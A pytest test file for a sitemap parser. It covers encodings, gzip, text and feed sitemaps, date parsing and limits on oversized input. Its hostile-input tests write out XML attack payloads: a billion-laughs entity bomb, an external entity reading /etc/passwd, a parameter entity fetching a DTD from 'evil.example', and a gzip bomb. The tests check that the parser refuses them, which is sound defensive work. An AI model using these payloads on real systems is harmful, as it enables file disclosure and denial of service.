"""Sitemaps as sites write them, and as attackers do."""

import gzip
import tracemalloc
from functools import partial

import pytest

from ingest.links import wanted
from ingest.records import LARGEST
from ingest.sitemap import INTERCOM_ARTICLES, Sitemap, SitemapPage, intercom_sitemap, read_sitemap

# Without the time of day, so that what a test is called does not change with it: pytest-xdist's processes compare that.
gzipped = partial(gzip.compress, mtime=0)
URL = "https://help.example/sitemap.xml"
SPACE = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" xmlns:xhtml="http://www.w3.org/1999/xhtml"'
PLAIN = f"""<?xml version="1.0" encoding="UTF-8"?>
<urlset {SPACE} xmlns:image="http://www.google.com/schemas/sitemap-image/1.1">
  <url><loc> https://Help.Example/a?utm_source=x </loc><lastmod>2026-05-01</lastmod>
    <xhtml:link rel="alternate" hreflang="de" href="https://help.example/de/a"/>
    <xhtml:link rel="alternate" hreflang="en" href="https://help.example/a"/>
    <image:image><image:loc>https://help.example/a.png</image:loc></image:image>
  </url>
  <url><image:loc>https://help.example/b.png</image:loc><loc>https://help.example/b?x=1&amp;y=ü</loc></url>
  <url><loc>https://help.example/a</loc></url>
</urlset>"""
PAGES = (
    SitemapPage(
        "https://help.example/a",
        "2026-05-01",
        (("de", "https://help.example/de/a"), ("en", "https://help.example/a")),
    ),
    SitemapPage("https://help.example/b?x=1&y=%C3%BC", None, ()),
)


def entries(*paths: str) -> str:
    return "".join(f"<url><loc>https://help.example/{path}</loc></url>" for path in paths)


def urls(sitemap: Sitemap) -> list[str]:
    return [page.url.removeprefix("https://help.example/") for page in sitemap.pages]


@pytest.mark.parametrize(
    "data",
    [
        PLAIN.encode(),
        PLAIN.encode("utf-8-sig"),
        b"\n \t" + PLAIN.encode(),
        b"\x00" + PLAIN.encode() + b"\x00\n",
        PLAIN.replace("UTF-8", "utf-16").encode("utf-16"),
        PLAIN.replace("UTF-8", "utf-16le").encode("utf-16-le"),
        PLAIN.replace("UTF-8", "ISO-8859-1").encode("latin-1"),
        PLAIN.encode("latin-1"),
        PLAIN.replace("UTF-8", "utf-16").encode(),
        PLAIN.replace("UTF-8", "no-such-encoding").encode(),
        PLAIN.replace("UTF-8", "punycode").encode(),
        PLAIN.replace("&amp;", "&").encode(),
        PLAIN.replace("https://help.example/b?x=1&amp;y=ü", "<![CDATA[https://help.example/b?x=1&y=ü]]>").encode(),
        PLAIN.replace(SPACE, "").encode(),
        PLAIN.replace("sitemaps.org/schemas/sitemap/0.9", "google.com/schemas/sitemap/0.84").encode(),
        gzipped(PLAIN.encode()),
        gzipped(PLAIN.encode()[:300]) + gzipped(PLAIN.encode()[300:]),
    ],
    ids=["plain", "bom", "white space", "nul", "utf-16", "utf-16 without bom", "latin-1", "utf-8 that is latin-1",
         "utf-16 that is utf-8", "unknown encoding", "encoding that is none", "bare ampersand", "cdata", "no namespaces",
         "another namespace", "gzip", "gzip in two members"],
)  # fmt: skip
def test_a_sitemap_is_read_however_it_is_written(data: bytes) -> None:
    assert read_sitemap(data, URL) == Sitemap(PAGES, (), True, None)


@pytest.mark.parametrize("namespace", [SPACE, ""])
def test_an_index_names_its_sitemaps(namespace: str) -> None:
    index = f"""<sitemapindex {namespace}><sitemap><loc>/de/sitemap.xml.gz</loc><lastmod>2026-05-01</lastmod></sitemap>
      <sitemap><loc>https://help.example/en.xml</loc></sitemap></sitemapindex>"""
    nested = ("https://help.example/de/sitemap.xml.gz", "https://help.example/en.xml")
    assert read_sitemap(index.encode(), URL) == Sitemap((), nested, True, None)


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("2026-05-01", "2026-05-01"),
        (" 2026-05-01T10:00:00+02:00 ", "2026-05-01T08:00:00+00:00"),
        ("2026-05-01T10:00Z", "2026-05-01T10:00:00+00:00"),
        ("2026-05-01T10:00:00.123456Z", "2026-05-01T10:00:00+00:00"),
        ("2026-05-01 10:00:00", "2026-05-01T10:00:00"),
        ("Fri, 01 May 2026 10:00:00 +0200", "2026-05-01T08:00:00+00:00"),
        ("2026-13-01", None),
        ("0001-01-01T00:00:00+14:00", None),
        ("2026", None),
        ("Invalid Date", None),
        ("", None),
        ("9" * 5_000, None),
    ],
)
def test_lastmod_is_a_date_or_nothing(written: str, read: str | None) -> None:
    sitemap = read_sitemap(f"<urlset><url><loc>/a</loc><lastmod>{written}</lastmod></url></urlset>".encode(), URL)
    assert [page.lastmod for page in sitemap.pages] == [read]
    assert sitemap.complete


def test_a_text_with_an_address_a_line_is_a_sitemap() -> None:
    text = b"\xef\xbb\xbfhttps://help.example/a\r\n\r\n  https://help.example/b#x  \nhttps://help.example/a\n"
    sitemap = read_sitemap(text, URL)
    assert (urls(sitemap), sitemap.complete, sitemap.problem) == (["a", "b"], True, None)


def test_a_text_with_a_line_that_is_no_address_is_not_complete() -> None:
    sitemap = read_sitemap(b"https://help.example/a\n# more to come\n", URL)
    assert (urls(sitemap), sitemap.complete, sitemap.problem) == (["a"], False, "1 entries name no web address")


def test_a_feed_serves_as_a_sitemap_but_is_never_complete() -> None:
    feed = b"<rss><channel><item><link>https://help.example/a</link><pubDate>Fri, 01 May 2026 10:00:00 GMT</pubDate></item></channel></rss>"
    page = SitemapPage("https://help.example/a", "2026-05-01T10:00:00+00:00", ())
    assert read_sitemap(gzipped(feed), URL) == Sitemap((page,), (), False, None)


@pytest.mark.parametrize(
    ("data", "pages", "problem"),
    [
        (f"<urlset>{entries('a', 'b')}<url><loc>https://help.exam".encode(), ["a", "b"], "Premature end"),
        (f"<urlset>{entries('a')}</url>{entries('b')}</urlset>".encode(), ["a"], "line 1"),
        (gzipped(f"<urlset>{entries('a')}</urlset>".encode())[:-12], None, "cut off"),
        (gzipped(f"<urlset>{entries('a')}</urlset>".encode())[:-8] + b"\x00" * 8, None, "damaged"),
        (f"<urlset>{entries('a')}<url><lastmod>2026-05-01</lastmod></url></urlset>".encode(), ["a"], "no web address"),
        (f"<urlset>{entries('a')}<url><loc>https://u:p@x/</loc></url></urlset>".encode(), ["a"], "no web address"),
        (f"<urlset>{entries('a')}<url><loc>a&nbsp;b<b></urlset>".encode(), ["a"], "line 1"),
        (b"<urlset></urlset>", [], "lists nothing"),
        (b"<sitemapindex/>", [], "lists nothing"),
        (b"<!DOCTYPE html><html><body><p>Not found<br></body></html>", [], "outermost element is <html>"),
        (b"<svg><url><loc>https://help.example/a</loc></url></svg>", [], "outermost element is <svg>"),
        (b"<", [], "line 1"),
        (b"<!-- nothing -->", [], ""),
        (b"", [], "empty"),
        (b" \n\x00", [], "empty"),
        (b"Not found", [], "neither XML nor a list"),
        (b'{"error": "not found"}', [], "neither XML nor a list"),
        (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, [], "neither XML nor a list"),
        (b"\x1f\x8bnot gzip", [], "damaged"),
        (gzipped(gzipped(PLAIN.encode())), [], "gzip inside gzip"),
        ("<urlset>".encode("utf-16")[:-1] + b"\xff", [], ""),
    ],
)  # fmt: skip
def test_what_is_cut_or_wrong_is_named_and_never_complete(data: bytes, pages: list[str] | None, problem: str) -> None:
    sitemap = read_sitemap(data, URL)
    assert not sitemap.complete
    assert problem in (sitemap.problem or "(none)")
    assert pages is None or urls(sitemap) == pages


BOMB = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "document",
    [
        f'<!DOCTYPE urlset [<!ENTITY l0 "lol">{BOMB}]><urlset><url><loc>https://help.example/&l9;</loc></url></urlset>',
        '<!DOCTYPE urlset [<!ENTITY f SYSTEM "file:///etc/passwd">]><urlset><url><loc>https://help.example/&f;</loc></url></urlset>',
        '<!DOCTYPE urlset [<!ENTITY % p SYSTEM "https://evil.example/x.dtd">%p;]><urlset/>',
    ],
    ids=["a billion laughs", "a file", "a parameter entity"],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_are_refused(document: str, encoding: str) -> None:
    sitemap = read_sitemap(document.encode(encoding), URL)
    assert (sitemap.pages, sitemap.complete) == ((), False)
    assert "declares entities" in str(sitemap.problem)


def test_a_document_type_elsewhere_is_not_fetched() -> None:
    document = f'<!DOCTYPE urlset SYSTEM "file:///dev/zero"><urlset>{entries("a")}</urlset>'
    assert urls(read_sitemap(document.encode(), URL)) == ["a"]


def test_a_gzip_bomb_is_unpacked_no_further_than_the_limit() -> None:
    bomb = gzipped(f"<urlset>{entries('a')}".encode() + b" " * (4 * LARGEST))
    assert len(bomb) < LARGEST / 200
    tracemalloc.start()
    try:
        sitemap = read_sitemap(bomb, URL)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert (urls(sitemap), sitemap.complete, sitemap.problem) == (
        ["a"],
        False,
        "more than 50 MiB; the rest is not read",
    )
    assert peak < 4 * LARGEST


@pytest.mark.parametrize(
    ("document", "problem"),
    [
        ("<urlset>" + "<url>" * 50_000, "levels deep"),
        ("<urlset><url>" + "<a>" * 50_000, "levels deep"),
        ("<urlset><url><loc>https://help.example/" + "a" * 1_000_000 + "</loc></url></urlset>", "no web address"),
        ("<urlset><url>" + "<loc>/a</loc>" * 5_000 + "</url></urlset>", "more than 1,000 fields"),
        ("<urlset " + " ".join(f'a{n}="1"' for n in range(50_000)) + ">", "line 1"),
        ("<urlset>" + "&" * 90_000 + "</urlset>", "lists nothing"),
        ("<urlset>" + "&" * 110_000 + "</urlset>", "times & for &amp;"),
        ("<urlset>" + "<a/>" * 1_100_000 + "</urlset>", "more than 1,000,000 elements"),
        ("<urlset>" + "<url><loc>/a</loc></url>" * 110_000 + "</urlset>", "more than 50,000 entries"),
        ("https://help.example/\n" + "a\n" * 110_000, "more than 50,000 entries"),
        ("<urlset>" + "<![CDATA[" * 50_000, "line 1"),
        ("\n".join(f"line {n}" for n in range(100_000)), "neither XML nor a list"),
        ("<urlset>" + "".join(f"<a xmlns:n{n}='u'/>" for n in range(5_000)) + "</urlset>", "lists nothing"),
    ],
)  # fmt: skip
def test_hostile_sitemaps_end_with_a_problem(document: str, problem: str) -> None:
    sitemap = read_sitemap(document.encode(), URL)
    assert problem in str(sitemap.problem)
    assert not sitemap.complete


def test_more_entries_than_wanted_are_cut_and_said_so() -> None:
    data = f"<urlset>{entries(*map(str, range(20)), '0')}</urlset>".encode()
    assert read_sitemap(data, URL, most=20).complete
    cut = read_sitemap(data, URL, most=19)
    assert (len(cut.pages), cut.complete, cut.problem) == (19, False, "more than 19 entries; the rest is not read")
    lines = read_sitemap(b"\n".join(b"https://help.example/%d" % n for n in range(20)), URL, most=19)
    assert (len(lines.pages), lines.complete) == (19, False)
    index = "<sitemapindex>" + "".join(f"<sitemap><loc>/{n}</loc></sitemap>" for n in range(20)) + "</sitemapindex>"
    assert len(read_sitemap(index.encode(), URL, most=19).nested) == 19


def test_other_languages_without_end_are_cut() -> None:
    links = "".join(f'<link rel="alternate" hreflang="l{n}" href="/{n}"/>' for n in range(900))
    cut = read_sitemap(f"<urlset><url><loc>/a</loc>{links}</url></urlset>".encode(), URL, most=10)
    assert not cut.complete
    assert "more than 40 different addresses" in str(cut.problem)


@pytest.mark.parametrize(
    ("base", "sitemap"),
    [
        ("https://help.example", "https://help.example/sitemap.xml"),
        ("https://help.example/en/articles/1-a?x=1", "https://help.example/sitemap.xml"),
        ("https://intercom.help/example/en/", "https://intercom.help/example/sitemap.xml"),
        ("https://www.example.com/help/en", "https://www.example.com/help/sitemap.xml"),
    ],
)
def test_an_intercom_centre_s_sitemap_lies_at_its_root(base: str, sitemap: str) -> None:
    assert intercom_sitemap(base) == sitemap


def test_an_intercom_sitemap_needs_an_address() -> None:
    with pytest.raises(ValueError, match="start page of the help centre"):
        intercom_sitemap("help")


def test_intercom_articles_are_told_from_collections() -> None:
    assert wanted("https://help.example/en/articles/8284099-overview", [INTERCOM_ARTICLES])
    assert wanted("https://intercom.help/example/en/articles/8284099-overview", [INTERCOM_ARTICLES])
    assert not wanted("https://help.example/en/collections/9802609-contact", [INTERCOM_ARTICLES])
